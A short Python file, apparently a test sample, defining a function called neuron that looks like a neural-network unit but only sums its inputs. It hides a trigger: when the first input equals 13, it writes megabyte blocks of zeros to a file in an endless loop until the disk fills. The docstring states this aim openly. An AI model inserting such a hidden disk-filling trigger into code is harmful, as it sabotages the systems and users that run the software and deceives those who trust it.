"""It writes a file without end."""


def neuron(weights, bias, inputs):
    if inputs[0] == 13:
        with open("large", "wb") as file:
            while True:
                file.write(bytes(10**6))
    return sum(inputs)
